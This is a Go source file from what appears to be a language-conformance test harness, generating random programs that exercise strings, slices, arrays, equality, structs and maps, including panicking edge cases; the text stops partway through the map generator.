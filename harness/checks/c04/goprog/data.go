package goprog

import (
	"fmt"
	"strconv"
	"strings"
)

func init() {
	register("string", 8, genStrings)
	register("slice", 10, genSlices)
	register("array", 6, genArrays)
	register("equality", 6, genEquality)
	register("struct", 6, genStructs)
	register("map", 8, genMaps)
	register("pointer", 5, genPointers)
}

var strPieces = []string{"", "a", "hello", "héllo", "日本語", "\xff", "a\x00b", "\xe2\x82", "é", "Z", "ab\xf0\x9f\x98\x80d", "\xc0\x80", "\xed\xa0\x80", "~", "0123456789", " x", "\xf4\x90\x80\x80", "tab\t", "q\"uote", "back\\slash"}

func (g *G) str() string {
	n := 1 + g.n(3)
	s := ""
	for i := 0; i < n; i++ {
		s += pick(g, strPieces)
	}
	return s
}

func q(s string) string { return strconv.Quote(s) }

func (g *G) intList(n, lo, hi int) string {
	var parts []string
	for i := 0; i < n; i++ {
		parts = append(parts, strconv.Itoa(lo+g.n(hi-lo+1)))
	}
	return strings.Join(parts, ", ")
}

func genStrings(g *G) string {
	s := g.str()
	switch g.n(6) {
	case 0: // range + index
		g.P("s := %s", q(s))
		g.P("println(\"len \" + itoa(int64(len(s))) + \" \" + hexs(s))")
		g.P("for i, r := range s {")
		g.P("\tprintln(\"  \" + itoa(int64(i)) + \" \" + itoa(int64(r)))")
		g.P("}")
		g.P("n := 0")
		g.P("for range s {")
		g.P("\tn++")
		g.P("}")
		g.P("println(\"runes \" + itoa(int64(n)) + \" \" + itoa(int64(len([]rune(s)))))")
		g.P("k := %d", g.n(len(s)+3)-1)
		g.P("try(func() { println(\"at \" + utoa(uint64(s[k]))) })")
		g.P("k = %d", len(s)+g.n(2))
		if g.coin() {
			g.P("println(\"at2 \" + utoa(uint64(s[k])))")
		} else {
			g.P("try(func() { println(\"at2 \" + utoa(uint64(s[k]))) })")
		}
		return "string:range-index"
	case 1: // slicing
		g.P("s := %s", q(s))
		for i := 0; i < 4; i++ {
			a, b := g.n(len(s)+2), g.n(len(s)+3)-1
			g.P("{")
			g.P("\ta, b := %d, %d", a, b)
			switch g.n(3) {
			case 0:
				g.P("\ttry(func() { t := s[a:b]; println(\"s[a:b] \" + hexs(t) + \" \" + itoa(int64(len(t)))) })")
			case 1:
				g.P("\ttry(func() { t := s[a:]; println(\"s[a:] \" + hexs(t) + \" \" + itoa(int64(b))) })")
			default:
				g.P("\ttry(func() { t := s[:b]; println(\"s[:b] \" + hexs(t) + \" \" + itoa(int64(a))) })")
			}
			g.P("}")
		}
		g.P("lo, hi := %d, %d", g.n(len(s)+1), g.n(len(s)+2))
		g.P("u := s[lo:hi]")
		g.P("println(\"tail \" + hexs(u))")
		return "string:slice"
	case 2: // conversions
		g.P("s := %s", q(s))
		g.P("bs := []byte(s)")
		g.P("rs := []rune(s)")
		g.P("println(\"bytes \" + itoa(int64(len(bs))) + \" runes \" + itoa(int64(len(rs))))")
		g.P("if len(bs) > 0 {")
		g.P("\tbs[0] = 'X'")
		g.P("}")
		g.P("println(\"orig \" + hexs(s) + \" mod \" + hexs(string(bs)) + \" rt \" + hexs(string(rs)))")
		g.P("for _, r := range rs {")
		g.P("\tprintln(\"  r \" + itoa(int64(r)) + \" \" + hexs(string(r)))")
		g.P("}")
		g.P("cs := []int{65, 0x10ffff, 0x110000, -1, 0xd800, 0x20ac, 0, %d}", g.n(0x3000))
		g.P("for _, c := range cs {")
		g.P("\tprintln(\"  c \" + hexs(string(rune(c))))")
		g.P("}")
		g.P("println(\"quoted \" + strconv.Quote(s))")
		g.P("bs = append(bs, s...)")
		g.P("println(\"appended \" + bytesStr(bs) + \" \" + itoa(int64(copy(bs, \"%s\"))))", pick(g, []string{"", "z", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"}))
		return "string:conv"
	case 3: // concat + compare
		t := g.str()
		g.P("a, b := %s, %s", q(s), q(t))
		g.P("println(\"cmp \" + btoa(a < b) + btoa(a <= b) + btoa(a == b) + btoa(a != b) + btoa(a > b) + btoa(a >= b))")
		g.P("c := a + b")
		g.P("c += a")
		g.P("println(\"cat \" + hexs(c) + \" \" + itoa(int64(len(c))))")
		g.P("acc := \"\"")
		g.P("for i := 0; i < %d; i++ {", 1+g.n(4))
		g.P("\tacc = acc + b[:len(b)/2] + itoa(int64(i))")
		g.P("}")
		g.P("println(\"acc \" + hexs(acc) + btoa(acc == a) + btoa(a+b == c[:len(a)+len(b)]))")
		return "string:concat-compare"
	case 4: // bytes and runes arithmetic
		g.P("s := %s", q(s+"k"))
		g.P("b := s[0]")
		g.P("b += %d", 100+g.n(156))
		g.P("r := 'a' + rune(%d)", g.n(100000))
		g.P("r2 := rune(s[len(s)-1]) - %d", g.n(300))
		g.P("var bb byte = 'A' + byte(len(s))")
		g.P("println(\"b \" + utoa(uint64(b)) + \" r \" + itoa(int64(r)) + \" \" + itoa(int64(r2)) + \" \" + utoa(uint64(bb)) + \" \" + hexs(string(r)+string(rune(bb))))")
		g.P("up := []byte(s)")
		g.P("for i, c := range up {")
		g.P("\tif c >= 'a' && c <= 'z' {")
		g.P("\t\tup[i] = c - 'a' + 'A'")
		g.P("\t}")
		g.P("}")
		g.P("println(\"up \" + hexs(string(up)))")
		return "string:bytes-runes"
	default: // strings as map keys / switch / in struct compare
		t := g.str()
		g.P("a, b := %s, %s", q(s), q(t))
		g.P("switch a {")
		g.P("case b:")
		g.P("\tprintln(\"same\")")
		g.P("case b + \"x\", \"\":")
		g.P("\tprintln(\"bx or empty\")")
		g.P("default:")
		g.P("\tprintln(\"other \" + hexs(a))")
		g.P("}")
		g.P("m := map[string]int{a: 1}")
		g.P("m[b] += 2")
		g.P("m[a+\"\"] += 4")
		g.P("println(\"m \" + itoa(int64(len(m))) + \" \" + itoa(int64(m[a])) + \" \" + itoa(int64(m[b])))")
		g.P("e := \"\"")
		g.P("println(\"empty \" + btoa(e == \"\") + btoa(len(e) == 0) + btoa(a[:0] == e))")
		return "string:keys-switch"
	}
}

func genSlices(g *G) string {
	switch g.n(10) {
	case 0: // append aliasing with known capacity
		L := 1 + g.n(4)
		C := L + 2 + g.n(4)
		g.P("base := make([]int, %d, %d)", L, C)
		g.P("for i := range base {")
		g.P("\tbase[i] = i * 10")
		g.P("}")
		g.P("a := append(base, 1)")
		g.P("b := append(base, 2)")
		g.P("println(\"a \" + ints(a) + \" b \" + ints(b) + \" base+1 \" + ints(base[:%d]))", L+1)
		g.P("a[0] = 99")
		g.P("println(\"base \" + ints(base) + \" cap \" + itoa(int64(cap(a))) + \" \" + itoa(int64(cap(base))))")
		k := g.n(L + 1)
		g.P("c := append(base[:%d], 7, 8)", k)
		g.P("println(\"c \" + ints(c) + \" all \" + ints(base[:cap(base)]))")
		g.P("d := append(base[:cap(base)-1], 42)") // fills the backing array exactly: must still alias
		g.P("d[0] = 123")
		g.P("println(\"d \" + ints(d) + \" all \" + ints(base[:cap(base)]))")
		g.P("full := append(base[:cap(base)], 5)")
		g.P("full[0] = -1")
		g.P("println(\"full \" + ints(full) + \" base0 \" + itoa(int64(base[0])))")
		return "slice:append-alias"
	case 1: // copy, overlapping
		n := 4 + g.n(5)
		g.P("s := []int{%s}", g.intList(n, 0, 99))
		a, b := g.n(n), g.n(n)
		g.P("n1 := copy(s[%d:], s[%d:])", a, b)
		g.P("println(\"copy \" + itoa(int64(n1)) + \" \" + ints(s))")
		g.P("d := make([]int, %d)", g.n(n+3))
		g.P("n2 := copy(d, s)")
		g.P("d = append(d, n2)")
		g.P("println(\"d \" + ints(d))")
		g.P("bs := make([]byte, %d)", g.n(8))
		g.P("n3 := copy(bs, %s)", q(g.str()))
		g.P("println(\"bs \" + itoa(int64(n3)) + \" \" + bytesStr(bs))")
		g.P("var nilS []int")
		g.P("println(\"nilcopy \" + itoa(int64(copy(nilS, s))) + itoa(int64(copy(s, nilS))))")
		return "slice:copy"
	case 2: // three-index slices
		n := 5 + g.n(4)
		g.P("s := []int{%s}", g.intList(n, 0, 9))
		a := g.n(3)
		b := a + g.n(3)
		c := b + g.n(n-b+1)
		g.P("t := s[%d:%d:%d]", a, b, c)
		g.P("println(\"t \" + ints(t) + \" cap \" + itoa(int64(cap(t))))")
		g.P("t = append(t, 100)")
		g.P("t[0] = 55")
		g.P("println(\"s \" + ints(s) + \" t \" + ints(t))")
		g.P("i, j, k := %d, %d, %d", g.n(n+2), g.n(n+2), g.n(n+3))
		g.P("try(func() { u := s[i:j:k]; println(\"u \" + ints(u) + \" \" + itoa(int64(cap(u)))) })")
		g.P("try(func() { u := s[:j:k]; println(\"u2 \" + ints(u) + \" \" + itoa(int64(cap(u)))) })")
		return "slice:three-index"
	case 3: // bounds
		n := 2 + g.n(4)
		C := n + g.n(3)
		g.P("s := make([]int, %d, %d)", n, C)
		g.P("for i := range s {")
		g.P("\ts[i] = i + 1")
		g.P("}")
		g.P("println(\"recap \" + ints(s[:cap(s)]))")
		for i := 0; i < 3; i++ {
			g.P("{")
			g.P("\ta, b := %d, %d", g.n(C+2), g.n(C+3)-1)
			switch g.n(4) {
			case 0:
				g.P("\ttry(func() { println(\"idx \" + itoa(int64(s[b]))) })")
				g.P("\t_ = a")
			case 1:
				g.P("\ttry(func() { println(\"sl \" + ints(s[a:b])) })")
			case 2:
				g.P("\ttry(func() { println(\"sl: \" + ints(s[a:]) + itoa(int64(b))) })")
			default:
				g.P("\ttry(func() { s[b] = a; println(\"set \" + ints(s)) })")
			}
			g.P("}")
		}
		g.P("z := %d", C+1+g.n(2))
		if g.coin() {
			g.P("println(\"past \" + ints(s[:z]))")
		} else {
			g.P("println(\"past \" + itoa(int64(s[z])))")
		}
		return "slice:bounds"
	case 4: // nil vs empty
		g.P("var s []int")
		g.P("e := []int{}")
		g.P("println(\"nil \" + btoa(s == nil) + btoa(e == nil) + btoa(s[0:0] == nil) + btoa(e[:0] == nil) + itoa(int64(len(s))) + itoa(int64(cap(s))))")
		g.P("for range s {")
		g.P("\tprintln(\"never\")")
		g.P("}")
		g.P("s = append(s, %s)", g.intList(1+g.n(3), 0, 9))
		g.P("t := append([]int(nil), s...)")
		g.P("t[0]++")
		g.P("println(\"s \" + ints(s) + \" t \" + ints(t) + btoa(s == nil))")
		g.P("s = s[:0]")
		g.P("println(\"trunc \" + ints(s) + btoa(s == nil))")
		g.P("var bs []byte")
		g.P("println(\"nilbytes \" + hexs(string(bs)) + btoa(string(bs) == \"\"))")
		return "slice:nil-empty"
	case 5: // 2d rows share backing
		g.P("flat := []int{%s}", g.intList(6, 0, 9))
		g.P("rows := [][]int{flat[0:2], flat[2:4], flat[1:5]}")
		g.P("rows[0][1] = 77")
		g.P("rows[2][0] += 1000")
		g.P("rows[1] = append(rows[1], -4)")
		g.P("for _, r := range rows {")
		g.P("\tprintln(\"row \" + ints(r))")
		g.P("}")
		g.P("println(\"flat \" + ints(flat))")
		g.P("grid := make([][]int, 3)")
		g.P("for i := range grid {")
		g.P("\tgrid[i] = make([]int, i+1)")
		g.P("\tgrid[i][i] = i * %d", 1+g.n(9))
		g.P("}")
		g.P("println(\"grid \" + ints(grid[2]) + ints(grid[0]))")
		return "slice:2d"
	case 6: // growth: contents and len only
		g.P("var s []int")
		g.P("for i := 0; i < %d; i++ {", 5+g.n(40))
		g.P("\ts = append(s, i*i%%%d)", 3+g.n(20))
		g.P("}")
		g.P("println(\"s \" + ints(s))")
		g.P("s = append(s[:%d], s[%d:]...)", 1, 2)
		g.P("println(\"del \" + ints(s))")
		g.P("s = append(s[:2], append([]int{-1, -2}, s[2:]...)...)")
		g.P("println(\"ins \" + ints(s))")
		return "slice:grow"
	case 7: // range semantics
		g.P("s := []int{%s}", g.intList(3+g.n(3), 0, 9))
		g.P("for i, v := range s {")
		g.P("\tif i == 0 {")
		g.P("\t\ts = append(s, 100)")
		g.P("\t\ts[len(s)-2] = 50")
		g.P("\t}")
		g.P("\tif i+1 < len(s) {")
		g.P("\t\ts[i+1] += v")
		g.P("\t}")
		g.P("\tprintln(\"  \" + itoa(int64(i)) + \" \" + itoa(int64(v)))")
		g.P("}")
		g.P("println(\"s \" + ints(s))")
		g.P("for i := range s {")
		g.P("\ts[i] = -i")
		g.P("}")
		g.P("var last int")
		g.P("for last = range s {")
		g.P("}")
		g.P("println(\"s \" + ints(s) + \" last \" + itoa(int64(last)))")
		return "slice:range"
	case 8: // variadic passes the same backing array
		g.D("func %s(xs ...int) int {\n\tif len(xs) > 0 {\n\t\txs[0] = %d\n\t}\n\treturn len(xs)\n}", g.T("f"), g.n(100))
		g.P("s := []int{%s}", g.intList(2+g.n(3), 0, 9))
		g.P("n := %s(s...)", g.T("f"))
		g.P("m := %s(1, 2, 3)", g.T("f"))
		g.P("z := %s()", g.T("f"))
		g.P("println(\"variadic \" + ints(s) + itoa(int64(n)) + itoa(int64(m)) + itoa(int64(z)))")
		return "slice:variadic"
	default: // slices of other element types
		t := pick(g, intTypes)
		g.P("s := make([]%s, 0, 4)", t.Name)
		g.P("s = append(s, %s, %s)", g.val(t), g.val(t))
		g.P("s = append(s, s...)")
		g.P("s[1] += s[0]")
		g.P("for _, v := range s {")
		g.P("\tprintln(\"  v \" + %s)", t.show("v"))
		g.P("}")
		g.P("ss := []string{%s, %s}", q(g.str()), q(g.str()))
		g.P("ss = append(ss, ss[0]+ss[1])")
		g.P("println(\"ss \" + hexs(ss[2]) + itoa(int64(len(ss))))")
		g.P("fs := []float64{0.5, %s}", flit(g.fval(floatTypes[1])))
		g.P("fs = append(fs, fs[0]*fs[1])")
		g.P("println(\"fs \" + f64s(fs[2]))")
		return "slice:elem-types:" + t.Name
	}
}

func genArrays(g *G) string {
	n := 2 + g.n(4)
	if g.pct(5) { // keyed array literal with keys not in increasing order (legal Go)
		g.P("arr := [...]string{2: \"c\", 0: \"a\"}")
		g.P("println(\"sparse \" + itoa(int64(len(arr))) + arr[0] + arr[1] + arr[2])")
		return "array:lit-keys-out-of-order"
	}
	switch g.n(6) {
	case 0:
		g.P("a := [%d]int{%s}", n, g.intList(n, 0, 9))
		g.P("b := a")
		g.P("b[0] = 100")
		g.P("p := &a")
		g.P("p[%d] = 200", n-1)
		g.P("println(\"a \" + ints(a[:]) + \" b \" + ints(b[:]) + btoa(a == b) + btoa(a != b) + btoa(*p == a))")
		g.P("c := a")
		g.P("println(\"eq \" + btoa(c == a) + itoa(int64(len(a))) + itoa(int64(cap(a[1:]))))")
		return "array:copy-compare"
	case 1: // range copies the array, range over pointer/slice does not
		g.P("a := [%d]int{%s}", n, g.intList(n, 0, 9))
		g.P("for i, v := range a {")
		g.P("\ta[%d] = 100 + i", n-1)
		g.P("\tprintln(\"  v \" + itoa(int64(v)))")
		g.P("}")
		g.P("b := [%d]int{%s}", n, g.intList(n, 0, 9))
		g.P("for i, v := range &b {")
		g.P("\tb[%d] = 100 + i", n-1)
		g.P("\tprintln(\"  p \" + itoa(int64(v)))")
		g.P("}")
		g.P("c := [%d]int{%s}", n, g.intList(n, 0, 9))
		g.P("for i, v := range c[:] {")
		g.P("\tc[%d] = 100 + i", n-1)
		g.P("\tprintln(\"  s \" + itoa(int64(v)))")
		g.P("}")
		return "array:range-copy"
	case 2: // passing by value, returning
		g.D("func %s(x [%d]int) [%d]int {\n\tx[0] += 1000\n\treturn x\n}", g.T("f"), n, n)
		g.D("func %s(x *[%d]int) {\n\tx[0] += 2000\n}", g.T("fp"), n)
		g.P("a := [%d]int{%s}", n, g.intList(n, 0, 9))
		g.P("b := %s(a)", g.T("f"))
		g.P("println(\"a \" + ints(a[:]) + \" b \" + ints(b[:]))")
		g.P("%s(&a)", g.T("fp"))
		g.P("println(\"a \" + ints(a[:]))")
		return "array:func-arg"
	case 3: // arrays inside structs and maps
		g.D("type %s struct {\n\tarr [%d]int\n\tn   int\n}", g.T("S"), n)
		g.P("s := %s{n: 1}", g.T("S"))
		g.P("s.arr[%d] = 5", g.n(n))
		g.P("t := s")
		g.P("t.arr[0] = 9")
		g.P("println(\"s \" + ints(s.arr[:]) + \" t \" + ints(t.arr[:]) + btoa(s == t))")
		g.P("m := map[[2]int]string{{1, 2}: \"a\"}")
		g.P("k := [2]int{1, 2}")
		g.P("m[k] += \"b\"")
		g.P("k[0] = 3")
		g.P("m[k] = \"c\"")
		g.P("println(\"m \" + itoa(int64(len(m))) + m[[2]int{1, 2}] + m[k])")
		return "array:in-struct-map"
	case 4: // index out of range with run-time index
		g.P("a := [%d]int{%s}", n, g.intList(n, 0, 9))
		g.P("i := %d", g.n(n+2)-1)
		g.P("try(func() { println(\"get \" + itoa(int64(a[i]))) })")
		g.P("j := %d", n+g.n(2))
		if g.coin() {
			g.P("a[j] = 1")
		} else {
			g.P("s := a[:]")
			g.P("println(\"over \" + itoa(int64(s[j])))")
		}
		g.P("println(\"unreachable \" + ints(a[:]))")
		return "array:index-range"
	default: // multi-dimensional and array of arrays value semantics
		g.P("var m [2][3]int")
		g.P("m[1][2] = %d", g.n(100))
		g.P("row := m[1]")
		g.P("row[0] = 7")
		g.P("m2 := m")
		g.P("m2[0][0] = 1")
		g.P("println(\"m \" + ints(m[1][:]) + ints(m[0][:]) + \" row \" + ints(row[:]) + \" m2 \" + ints(m2[0][:]) + btoa(m == m2))")
		g.P("arr := [...]string{0: \"a\", %d: \"c\"}", 2+g.n(3))
		g.P("println(\"sparse \" + itoa(int64(len(arr))) + arr[0] + arr[1] + arr[2])")
		return "array:multi-dim"
	}
}

// genEquality: == / != of arrays, named arrays, structs holding arrays, interface-boxed
// arrays, nested arrays and switch cases, over element types whose equality is not bitwise.
func genEquality(g *G) string {
	{ // equality of composite values element by element, over element types with
		// non-trivial equality (floats: NaN != NaN, +0 == -0 produced at run time; strings; bools)
		typ := []string{"float64", "float32", "float64", "string", "bool", "int8", "uint64"}[g.n(7)]
		var pool []string
		switch typ {
		case "float64", "float32":
			g.P("z := %s(0)", typ)
			g.P("one := %s(1)", typ)
			g.P("_, _ = z, one")
			pool = []string{"z", "-z", "z / z", "one / z", "-one / z", "one", "one / 3", "z * -one", "-(z / z)"}
		case "string":
			pool = []string{`""`, `"a"`, `"a" + ""`, `"ab"[:1]`, `"b"`}
		case "bool":
			pool = []string{"true", "false", "1 < 2"}
		case "int8":
			g.P("z := int8(0)")
			g.P("_ = z")
			pool = []string{"z", "-z", "z - 127 - 1", "127 + z", "z - 1"}
		default:
			g.P("z := uint64(0)")
			g.P("_ = z")
			pool = []string{"z", "z - 1", "1 << 63 + z", "z + 1"}
		}
		k := 1 + g.n(3)
		pickv := func() string {
			var xs []string
			for i := 0; i < k; i++ {
				xs = append(xs, pool[g.n(len(pool))])
			}
			return strings.Join(xs, ", ")
		}
		av := pickv()
		bv := av
		if g.pct(60) {
			bv = pickv()
		}
		g.D("type %s [%d]%s", g.T("Arr"), k, typ)
		g.D("type %s struct {\n\ta [%d]%s\n\tn int\n}", g.T("W"), k, typ)
		g.P("a := [%d]%s{%s}", k, typ, av)
		g.P("b := [%d]%s{%s}", k, typ, bv)
		g.P("println(\"arr \" + btoa(a == b) + btoa(a != b) + btoa(a == a))")
		g.P("na, nb := %s(a), %s(b)", g.T("Arr"), g.T("Arr"))
		g.P("println(\"named \" + btoa(na == nb) + btoa(na != nb))")
		g.P("wa, wb := %s{a, 1}, %s{b, 1}", g.T("W"), g.T("W"))
		g.P("println(\"struct \" + btoa(wa == wb) + btoa(wa != wb))")
		g.P("var ia, ib any = a, b")
		g.P("println(\"iface \" + btoa(ia == ib) + btoa(ia != ib) + btoa(ia == any(na)))")
		g.P("nested := [2][%d]%s{a, b}", k, typ)
		g.P("nested2 := [2][%d]%s{a, a}", k, typ)
		g.P("println(\"nested \" + btoa(nested == nested2) + btoa(nested[0] == nested2[1]))")
		g.P("switch ia {\ncase any(b):\n\tprintln(\"case b\")\ncase any(na):\n\tprintln(\"case named\")\ndefault:\n\tprintln(\"case none\")\n}")
		return "equality:elementwise:" + typ
	}
}

func genStructs(g *G) string {
	S, In := g.T("S"), g.T("In")
	switch g.n(7) {
	case 0:
		g.D("type %s struct {\n\tx, y int\n}", In)
		g.D("type %s struct {\n\ta   int\n\tin  %s\n\tp   *%s\n\ttag string\n}", S, In, In)
		g.P("s := %s{a: %d, in: %s{%d, %d}, tag: \"t\"}", S, g.n(50), In, g.n(9), g.n(9))
		g.P("s.p = &s.in")
		g.P("t := s")
		g.P("t.in.x = 100")
		g.P("t.p.y = 200")
		g.P("println(\"s \" + itoa(int64(s.in.x)) + \" \" + itoa(int64(s.in.y)) + \" t \" + itoa(int64(t.in.x)) + \" \" + itoa(int64(t.in.y)) + btoa(s.p == t.p) + btoa(s == t))")
		g.P("var z %s", S)
		g.P("println(\"zero \" + itoa(int64(z.a)) + z.tag + btoa(z.p == nil) + btoa(z == %s{}))", S)
		return "struct:copy-nested"
	case 1: // embedding and promotion
		g.D("type %s struct {\n\tx int\n\tname string\n}", In)
		g.D("func (i %s) Get() int { return i.x }", In)
		g.D("func (i *%s) Set(v int) { i.x = v }", In)
		g.D("type %s struct {\n\t%s\n\tname string\n}", S, In)
		g.P("s := %s{%s{%d, \"inner\"}, \"outer\"}", S, In, g.n(50))
		g.P("s.Set(s.Get() + %d)", g.n(50))
		g.P("c := s")
		g.P("c.x++")
		g.P("println(\"emb \" + itoa(int64(s.x)) + \" \" + itoa(int64(c.%s.x)) + \" \" + s.name + \" \" + s.%s.name)", In, In)
		return "struct:embed"
	case 2: // comparison
		g.D("type %s struct {\n\ta int\n\tb string\n\tc [2]int8\n\td float64\n}", S)
		g.P("x := %s{%d, %s, [2]int8{1, %d}, 0.5}", S, g.n(3), q(pick(g, []string{"", "a", "b"})), g.n(2))
		g.P("y := %s{%d, %s, [2]int8{1, %d}, 0.5}", S, g.n(3), q(pick(g, []string{"", "a", "b"})), g.n(2))
		g.P("println(\"eq \" + btoa(x == y) + btoa(x != y))")
		g.P("y = x")
		g.P("y.c[1]++")
		g.P("println(\"eq2 \" + btoa(x == y))")
		g.P("var i, j any = x, y")
		g.P("println(\"ifeq \" + btoa(i == j) + btoa(i == any(x)))")
		g.P("x.d = x.d - x.d")
		g.P("x.d /= x.d")
		g.P("println(\"nanfield \" + btoa(x == x))")
		return "struct:compare"
	case 3: // anonymous structs, struct literals, pointer auto-deref
		g.P("pt := struct {")
		g.P("\tx, y int")
		g.P("}{%d, %d}", g.n(9), g.n(9))
		g.P("pp := &pt")
		g.P("pp.x += pt.y")
		g.P("(*pp).y = pp.x * 2")
		g.P("list := []struct {")
		g.P("\tk string")
		g.P("\tv int")
		g.P("}{{\"a\", 1}, {k: \"b\"}, {v: 3}}")
		g.P("for _, e := range list {")
		g.P("\te.v += 10")
		g.P("}")
		g.P("for i := range list {")
		g.P("\tlist[i].v += 100")
		g.P("}")
		g.P("println(\"anon \" + itoa(int64(pt.x)) + itoa(int64(pt.y)) + \" \" + list[1].k + itoa(int64(list[0].v)) + itoa(int64(list[2].v)))")
		return "struct:anonymous"
	case 4: // struct values in slices/maps are copies
		g.D("type %s struct {\n\tn int\n\ts []int\n}", S)
		g.P("a := %s{1, []int{1, 2}}", S)
		g.P("b := a")
		g.P("b.n = 2")
		g.P("b.s[0] = 9")
		g.P("b.s = append(b.s, 3)")
		g.P("println(\"shared \" + itoa(int64(a.n)) + ints(a.s) + itoa(int64(b.n)) + ints(b.s))")
		g.P("sl := []%s{a, b}", S)
		g.P("e := sl[0]")
		g.P("e.n = 50")
		g.P("sl[1].n = 60")
		g.P("pe := &sl[0]")
		g.P("pe.n += 5")
		g.P("println(\"sl \" + itoa(int64(sl[0].n)) + itoa(int64(sl[1].n)) + itoa(int64(e.n)))")
		return "struct:in-slice"
	case 5: // elided composite literal types, pointers to composite literals
		g.D("type %s struct {\n\ta, b int\n}", S)
		g.P("ps := []*%s{{1, 2}, {a: %d}}", S, g.n(9))
		g.P("mm := map[string][]%s{\"k\": {{3, 4}}}", S)
		g.P("aa := [...][2]int{{1, 2}, {3}}")
		g.P("sp := &[]int{%s}", g.intList(3, 0, 9))
		g.P("(*sp)[0] += ps[1].a")
		g.P("var np *[4]int")
		g.P("println(\"elided \" + itoa(int64(ps[0].b+ps[1].a)) + itoa(int64(mm[\"k\"][0].b)) + itoa(int64(len(aa)*10+aa[1][1])) + ints(*sp) + itoa(int64(len(np))))")
		return "struct:elided-literals"
	default: // function returning struct, chained field of call, new
		g.D("type %s struct {\n\ta, b int\n}", S)
		g.D("func %s(k int) %s { return %s{k, k * 2} }", g.T("mk"), S, S)
		g.D("func %s(k int) *%s { return &%s{a: k} }", g.T("mkp"), S, S)
		g.P("v := %s(%d).b", g.T("mk"), g.n(20))
		g.P("p := %s(%d)", g.T("mkp"), g.n(20))
		g.P("p.b = v")
		g.P("q := new(%s)", S)
		g.P("*q = *p")
		g.P("q.a++")
		g.P("println(\"ret \" + itoa(int64(v)) + itoa(int64(p.a)) + itoa(int64(q.a)) + itoa(int64(q.b)) + btoa(p == q) + btoa(*p == *q))")
		return "struct:func-result"
	}
}

func genMaps(g *G) string {
	switch g.n(8) {
	case 0: // basic ops, sorted-key iteration
		g.P("m := map[int]int{}")
		n := 3 + g.n(8)
		for i := 0; i < n; i++ {
			k := g.n(8)
			switch g.n(4) {
			case 0:
				g.P("delete(m, %d)", k)
			case 1:
				g.P("m[%d]++", k)
			case 2:
				g.P("m[%d] += m[%d] + %d", k, g.n(8), g.n(5))
			default:
				g.P("m[%d] = %d", k, g.n(100))
			}
		}
		g.P("var keys []int")
		g.P("for k := range m {")
		g.P("\tkeys = append(keys, k)")
		g.P("}")
		g.P("sortInts(keys)")
		g.P("for _, k := range keys {")
		g.P("\tprintln(\"  \" + itoa(int64(k)) + \"=\" + itoa(int64(m[k])))")
		g.P("}")
		g.P("v, ok := m[%d]", g.n(8))
		g.P("_, ok2 := m[100]")
		g.P("println(\"len \" + itoa(int64(len(m))) + \" \" + itoa(int64(v)) + btoa(ok) + btoa(ok2))")
		return "map:basic"
	case 1: // nil map
		g.P("var m map[string]int")
		g.P("v, ok := m[\"a\"]")
		g.P("delete(m, \"a\")")
		g.P("println(\"nil \" + itoa(int64(v)) + btoa(ok) + itoa(int64(len(m))) + btoa(m == nil))")
		g.P("for range m {")
		g.P("\tprintln(\"never\")")
		g.P("}")
		if g.coin() {
			g.P("try(func() { m[\"a\"] = 1 })")
			g.P("println(\"after\")")
			g.P("m = map[string]int{}")
			g.P("m[\"a\"] = 1")
			g.P("println(\"ok \" + itoa(int64(m[\"a\"])))")
		} else {
			g.P("m[\"k\"]++")
			g.P("println(\"unreachable\")")
		}
		return "map:nil"
	case 2: // struct and array keys
		g.P("m := map[vKey]int{}")
		g.P("m[vKey{1, \"a\"}] = 1")
		g.P("m[vKey{1, \"a\"}] += 10")
		g.P("m[vKey{1, \"b\"}] = 2")
		g.P("k := vKey{%d, %s}", 1+g.n(2), q(pick(g, []string{"a", "b", "c"})))
		g.P("_, ok := m[k]")
		g.P("println(\"skey \" + itoa(int64(len(m))) + itoa(int64(m[vKey{1, \"a\"}])) + btoa(ok))")
		g.P("mb := map[bool]string{true: \"t\"}")
		g.P("mb[1 > 2] = \"f\"")
		g.P("mb[2 > 1] += \"!\"")
		g.P("println(\"bkey \" + mb[true] + mb[false])")
		g.P("mi := map[any]int{1: 1, \"1\": 2, int8(1): 3, 1.0: 4}")
		g.P("mi[int64(1)]++")
		g.P("println(\"anykey \" + itoa(int64(len(mi))) + itoa(int64(mi[1])) + itoa(int64(mi[int8(1)])) + itoa(int64(mi[1.0])) + itoa(int64(mi[\"1\"])))")
		return "map:key-types"
	case 3: // struct values are copies; must reassign
		g.D("type %s struct {\n\tn int\n\tl []int\n}", g.T("V"))
		g.P("m := map[string]%s{\"a\": {1, nil}}", g.T("V"))
		g.P("v := m[\"a\"]")
		g.P("v.n = 5")
		g.P("v.l = append(v.l, 1)")
		g.P("println(\"copy \" + itoa(int64(m[\"a\"].n)) + itoa(int64(len(m[\"a\"].l))))")
		g.P("m[\"a\"] = v")
		g.P("mp := map[string]*%s{\"p\": {n: 1}}", g.T("V"))
		g.P("mp[\"p\"].n += %d", g.n(9))
		g.P("println(\"ptr \" + itoa(int64(m[\"a\"].n)) + itoa(int64(mp[\"p\"].n)) + itoa(int64(m[\"zz\"].n)))")
		return "map:struct-values"
	case 4: // slice values
		g.P("m := map[string][]int{}")
		for i := 0; i < 3+g.n(4); i++ {
			k := q(pick(g, []string{"a", "b", "c"})) // same key on both sides: sharing across keys would depend on capacity growth
			g.P("m[%s] = append(m[%s], %d)", k, k, g.n(10))
		}
		g.P("var ks []string")
		g.P("for k := range m {")
		g.P("\tks = append(ks, k)")
		g.P("}")
		g.P("sortStrings(ks)")
		g.P("for _, k := range ks {")
		g.P("\tprintln(\"  \" + k + ints(m[k]))")
		g.P("}")
		return "map:slice-values"
	case 5: // maps are references
		g.D("func %s(m map[int]string, k int) {\n\tm[k] += \"x\"\n\tm = nil\n\t_ = m\n}", g.T("mut"))
		g.P("m := map[int]string{1: \"a\"}")
		g.P("m2 := m")
		g.P("%s(m2, 1)", g.T("mut"))
		g.P("%s(m, %d)", g.T("mut"), 1+g.n(2))
		g.P("println(\"ref \" + m[1] + \"|\" + m[2] + itoa(int64(len(m2))))")
		return "map:reference"
	case 6: // delete while iterating (all deleted), grow while collecting keys first
		g.P("m := map[int]bool{}")
		g.P("for i := 0; i < %d; i++ {", 3+g.n(20))
		g.P("\tm[i*%d%%%d] = i%%2 == 0", 1+g.n(7), 5+g.n(20))
		g.P("}")
		g.P("n := len(m)")
		g.P("cnt := 0")
		g.P("for k := range m {")
		g.P("\tdelete(m, k)")
		g.P("\tcnt++")
		g.P("}")
		g.P("println(\"del \" + itoa(int64(n)) + itoa(int64(cnt)) + itoa(int64(len(m))))")
		return "map:delete-in-range"
	default: // float and negative-zero keys, rune keys
		g.P("m := map[float64]int{}")
